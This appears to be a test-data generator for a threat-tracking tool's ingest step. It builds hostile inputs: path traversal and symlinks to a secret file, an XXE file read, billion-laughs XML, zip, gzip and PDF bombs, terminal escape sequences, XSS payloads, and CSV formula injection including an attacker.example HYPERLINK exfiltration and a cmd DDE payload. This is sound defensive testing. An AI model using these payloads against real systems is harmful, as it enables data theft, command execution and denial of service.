"""Generate the hostile corpus: inputs an attacker (or a broken exporter) could hand to ingest.

Nothing here is copied from anywhere: every file is built from the few sentences below, with
a fixed random seed, so the corpus is the same on every machine. The files are generated at
test time (``tests/test_hostile_corpus.py``) into a temporary folder, because some are large
(a 6 MB text, a sparse 50 MB file) and some cannot live in git (symlink loops, names with
escape bytes). To look at them by hand::

    python tests/data/hostile/generate.py /tmp/hostile        # one sub-folder per case

Each case is a function ``case_<name>(folder) -> list of inputs`` (paths to pass to
``cybertrack ingest``), writing only inside ``folder`` except where the point is a file
*outside* it (``secret.txt`` in the folder's parent, which ``text_file`` must never reach).
What each case is expected to do is in the test, next to the check that proves it.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from cybertrack.ingest.pdfwrite import assemble

#: A line that must never be stored: it is in a file outside every input.
SECRET = "SECRET-OUTSIDE-THE-INPUT: root:x:0:0 this line must never reach the knowledge base"
#: Written for this corpus; gives extraction something to find.
GOOD_TEXT = (
    "Title: Ministry systems hit\n\n"
    "Hackers linked to Iran disrupted the online services of Albania's government in July "
    "2022, the ministry said. Albania severed diplomatic ties with Iran in September 2022.\n"
)
PROSE = (
    "Investigators said a group tied to Russia broke into the network of a Dutch port "
    "operator in March 2021 and stole shipping records. The government of the Netherlands "
    "condemned the intrusion."
)
ESC_TITLE = "Breaking\x1b]0;owned-window-title\x07 news\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J"
ESC_TEXT = ("Officials\x1b[31m in Albania\x1b[0m said hackers linked to Iran \x1b]0;pwn\x07"
            "disrupted government services in July 2022.\x9b2J Albania cut ties with Iran.")
ESC_NAME = "evil\x1b]0;name\x07\x1b[2J.txt"
FORMULA_TITLE = '=HYPERLINK("http://attacker.example/x?"&A1,"click me")'
MD_TITLE = '<script>alert(1)</script> [x](javascript:alert(2)) <img src=x onerror=alert(3)>'
MD_TEXT = ("<iframe src=javascript:alert(4)></iframe> Hackers linked to Iran disrupted the "
           "services of Albania's government in July 2022, officials said. "
           "[click](javascript:alert(5)) <b onmouseover=alert(6)>Albania</b> severed ties with "
           "Iran in September 2022.")


def _secret(folder: Path) -> Path:
    """The file outside the case folder that a hostile ``text_file`` points at."""
    path = folder.parent / "secret.txt"
    path.write_text(SECRET + "\n")
    return path


def _jsonl(folder: Path, text_file: str) -> list[str]:
    docs = folder / "docs"
    docs.mkdir(parents=True)
    lines = [{"id": "hostile", "title": "escape", "text_file": text_file},
             {"id": "fine", "title": "A fine line", "text": PROSE}]
    path = docs / "docs.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return [str(path)]


def case_jsonl_text_file_absolute(folder: Path) -> list[str]:
    return _jsonl(folder, str(_secret(folder)))


def case_jsonl_text_file_dotdot(folder: Path) -> list[str]:
    _secret(folder)
    return _jsonl(folder, "../../secret.txt")


def case_jsonl_text_file_symlink(folder: Path) -> list[str]:
    secret = _secret(folder)
    inputs = _jsonl(folder, "innocent.txt")
    (folder / "docs" / "innocent.txt").symlink_to(secret)
    return inputs


def case_jsonl_lone_surrogate(folder: Path) -> list[str]:
    """JSON allows ``\\ud800``; Python decodes it to a string that cannot be UTF-8."""
    path = folder / "surrogate.jsonl"
    path.write_text('{"id": "s", "text": "Hackers \\ud800 attacked Albania in 2022."}\n'
                    + json.dumps({"id": "t", "text": PROSE}) + "\n")
    return [str(path)]


def case_long_text_6mb(folder: Path) -> list[str]:
    path = folder / "long.txt"
    sentences = [f"Report {n}: hackers linked to Iran probed a ministry in Albania in 2022."
                 for n in range(80_000)]
    path.write_text("Title: A very long report\n\n" + "\n".join(sentences) + "\n")
    return [str(path)]


def case_huge_single_line(folder: Path) -> list[str]:
    path = folder / "one-line.txt"
    path.write_text(" ".join(f"Hackers struck system number {n} in Albania." for n in
                             range(8_000)) + " " + "A" * 100_000)
    return [str(path)]


def pdf_page_bomb() -> bytes:
    """A 1.3 KB PDF whose page tree names one page 59,049 times (9 kids, 5 levels deep; under
    pypdf's own limit of 100,000 tree entries): read naively, it is 8 million characters."""
    line = b"(Hackers linked to Iran attacked ministries in Albania in July 2022.) Tj T* "
    stream = b"BT /F1 10 Tf 13 TL 60 740 Td " + line * 2 + b"ET"
    levels = 5
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    # objects 2..(2+levels-1): Pages nodes, each with 9 kids pointing at the next level
    for level in range(levels):
        node = 2 + level
        child = node + 1  # the last level's child is the page
        count = 9 ** (levels - level)
        parent = b"" if level == 0 else b" /Parent %d 0 R" % (node - 1)
        objects.append(b"<< /Type /Pages /Kids [" + b" ".join([b"%d 0 R" % child] * 9)
                       + b"] /Count %d%s >>" % (count, parent))
    page = 2 + levels
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                   b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (page - 1, page + 1, page + 2))
    objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return _pdf(objects)


def _pdf(objects: list[bytes]) -> bytes:
    return assemble(objects)


def case_pdf_page_bomb(folder: Path) -> list[str]:
    path = folder / "bomb.pdf"
    path.write_bytes(pdf_page_bomb())
    return [str(path)]


def case_pdf_flate_bomb(folder: Path) -> list[str]:
    """One page whose compressed content stream inflates to about 6 MB of text operators."""
    line = b"(Hackers linked to Iran attacked Albania.) Tj T* "
    raw = b"BT /F1 10 Tf 13 TL 60 740 Td " + line * 120_000 + b"ET"
    packed = zlib.compress(raw, 9)
    path = folder / "flate-bomb.pdf"
    path.write_bytes(_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]))
    return [str(path)]


def case_corrupt_pdf(folder: Path) -> list[str]:
    path = folder / "corrupt.pdf"
    path.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\n"
                     + random.Random(1).randbytes(3000) + b"\n%%EOF")
    return [str(path)]


def case_binary_junk(folder: Path) -> list[str]:
    path = folder / "junk.txt"
    path.write_bytes(random.Random(2).randbytes(20_000))
    return [str(path)]


def case_latin1(folder: Path) -> list[str]:
    path = folder / "latin1.txt"
    path.write_bytes(("Le ministère a confirmé que des pirates liés à l'Iran ont paralysé les "
                      "services du gouvernement albanais en juillet 2022. L'Albanie a rompu ses "
                      "relations diplomatiques avec l'Iran.").encode("latin-1"))
    return [str(path)]


def case_utf16_without_bom(folder: Path) -> list[str]:
    path = folder / "utf16.txt"
    path.write_bytes(PROSE.encode("utf-16-le"))
    return [str(path)]


def case_late_nul(folder: Path) -> list[str]:
    """A NUL past the first 8 KB, where binary sniffing stops looking."""
    path = folder / "late-nul.txt"
    path.write_bytes((PROSE + "\n").encode() * 60 + b"The end\x00 of it.\n")
    return [str(path)]


def case_gzip_html(folder: Path) -> list[str]:
    """10 MB of markup gzipped to a few KB: no reader may inflate it."""
    bomb = gzip.compress(b"<html><body>" + b"<p>lol</p>" * 1_000_000 + b"</body></html>", 9)
    (folder / "page.html").write_bytes(bomb)
    (folder / "page.html.gz").write_bytes(bomb)
    return [str(folder / "page.html"), str(folder / "page.html.gz")]


def case_zip_bomb(folder: Path) -> list[str]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.txt", b"\x00" * 50_000_000)
    path = folder / "bomb.zip"
    path.write_bytes(buffer.getvalue())
    return [str(path)]


def case_nested_html(folder: Path) -> list[str]:
    path = folder / "nested.html"
    path.write_text("<html><head><title>Deep</title></head><body>" + "<div>" * 10_000
                    + f"<p>{PROSE}</p>" + "</div>" * 10_000 + "</body></html>")
    return [str(path)]


def _feed(doctype: str, title: str, description: str) -> str:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>Feed</title>'
            f"<item><title>{title}</title><description>{description}</description>"
            f"<pubDate>Tue, 06 Sep 2022 10:00:00 GMT</pubDate></item></channel></rss>\n")


def case_billion_laughs_feed(folder: Path) -> list[str]:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    path = folder / "laughs.xml"
    path.write_text(_feed(f"<!DOCTYPE rss [{entities}]>", "Laughs &lol9;", "&lol9; " + PROSE))
    return [str(path)]


def case_external_entity_feed(folder: Path) -> list[str]:
    secret = _secret(folder)
    path = folder / "xxe.xml"
    path.write_text(_feed(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>',
                          "Read &xxe;", "&xxe; " + PROSE))
    return [str(path)]


def case_symlink_loop_folder(folder: Path) -> list[str]:
    tree = folder / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "inside.txt").write_text(PROSE + "\n")
    (tree / "loop-a").symlink_to(tree / "loop-b")
    (tree / "loop-b").symlink_to(tree / "loop-a")
    (tree / "sub" / "up").symlink_to(tree)  # a folder loop
    (tree / "dangling.txt").symlink_to(tree / "nowhere.txt")
    return [str(tree)]


def case_escape_sequences(folder: Path) -> list[str]:
    (folder / "esc-text.txt").write_text(f"Title: {ESC_TITLE}\n\n{ESC_TEXT}\n")
    (folder / ESC_NAME).write_bytes(b"")  # fails (empty): its name is echoed in the error
    return [str(folder / "esc-text.txt"), str(folder / ESC_NAME)]


def case_markdown_injection(folder: Path) -> list[str]:
    path = folder / "inject.txt"
    path.write_text(f"Title: {MD_TITLE}\n\n{MD_TEXT}\n")
    return [str(path)]


def case_malformed_stix(folder: Path) -> list[str]:
    path = folder / "bundle.json"
    path.write_text(json.dumps({"type": "bundle", "id": "bundle--" + "1" * 8 + "-1111-4111-8111-"
                                + "1" * 12, "objects": [{
                                    "type": "campaign", "spec_version": "2.1",
                                    "id": "campaign--" + "2" * 8 + "-2222-4222-8222-" + "2" * 12,
                                    "created": "2022-07-15T00:00:00.000Z",
                                    "modified": "2022-07-15T00:00:00.000Z",
                                    "name": 123, "description": ["not", "a", "string"]}]}))
    return [str(path)]


def case_stix_wrong_types(folder: Path) -> list[str]:
    """Found by the fuzzer: ``extensions`` and other dict fields given as numbers."""
    path = folder / "types.json"
    path.write_text(json.dumps({"type": "campaign", "spec_version": "2.1",
                                "id": "campaign--" + "3" * 8 + "-3333-4333-8333-" + "3" * 12,
                                "name": "Operation Test", "extensions": 1,
                                "external_references": 7}))
    return [str(path)]


def case_empty_file(folder: Path) -> list[str]:
    path = folder / "empty.txt"
    path.write_bytes(b"")
    return [str(path)]


def case_zero_byte_feed(folder: Path) -> list[str]:
    (folder / "empty.rss").write_bytes(b"")
    (folder / "empty.xml").write_bytes(b"")
    return [str(folder / "empty.rss"), str(folder / "empty.xml")]


def case_over_max_bytes_50mb(folder: Path) -> list[str]:
    """50 MB, sparse: costs nothing on disk, and must cost nothing in memory either."""
    path = folder / "big.txt"
    with path.open("wb") as fh:
        fh.truncate(50_000_000)
    return [str(path)]


CASES: dict[str, Callable[[Path], list[str]]] = {
    name.removeprefix("case_"): function for name, function in sorted(globals().items())
    if name.startswith("case_") and callable(function)
}

# --- tracker CSVs (read with --tracker, not as documents) -------------------------------------

CFR_HEADER = ("Title,Date,Affiliations,Description,Response,Victims,Sponsor,Type,Category,"
              "Sources_1,Sources_2,Sources_3\n")
CFR_GOOD_ROW = ('Attack on a Dutch port operator,3/15/2021,,"A group tied to Russia broke into a '
                'port operator in the Netherlands.",,Netherlands,Russian Federation,Espionage,'
                "Private sector,https://news.example.org/port,,\n")


def cfr_formula_csv(path: Path) -> Path:
    """Every cell an attacker controls starts with a spreadsheet formula character."""
    path.write_text(CFR_HEADER + (
        f'"{FORMULA_TITLE.replace(chr(34), chr(34) * 2)}",7/15/2022,@SUM(1+1),'
        '"+cmd|\' /C calc\'!A0 hackers linked to Iran attacked Albania.",,Albania,Iran,'
        "Sabotage,Government,-2+3,\tTAB,\rCR\n"))
    return path


def cfr_short_rows_csv(path: Path) -> Path:
    """A good row, then a row with 3 of the 12 columns (a truncated export)."""
    path.write_text(CFR_HEADER + CFR_GOOD_ROW + "Short row,7/15/2022,Someone\n")
    return path


def cfr_good_csv(path: Path) -> Path:
    path.write_text(CFR_HEADER + CFR_GOOD_ROW.replace("Dutch port operator", "Dutch canal board")
                    .replace("port operator in", "canal board in"))
    return path


def generate(out: Path) -> dict[str, list[str]]:
    """Write every case into ``out/<case>/``; the inputs of each case, by name."""
    made: dict[str, list[str]] = {}
    for name, function in CASES.items():
        folder = out / name
        folder.mkdir(parents=True)
        made[name] = function(folder)
    trackers = out / "trackers"
    trackers.mkdir()
    cfr_formula_csv(trackers / "formula.csv")
    cfr_short_rows_csv(trackers / "short.csv")
    cfr_good_csv(trackers / "good.csv")
    return made


if __name__ == "__main__":
    if len(sys.argv) != 2 or os.path.exists(sys.argv[1]):
        sys.exit("usage: generate.py NEW_FOLDER  (the folder must not exist yet)")
    for case, inputs in generate(Path(sys.argv[1])).items():
        print(case, *inputs, sep="\t")
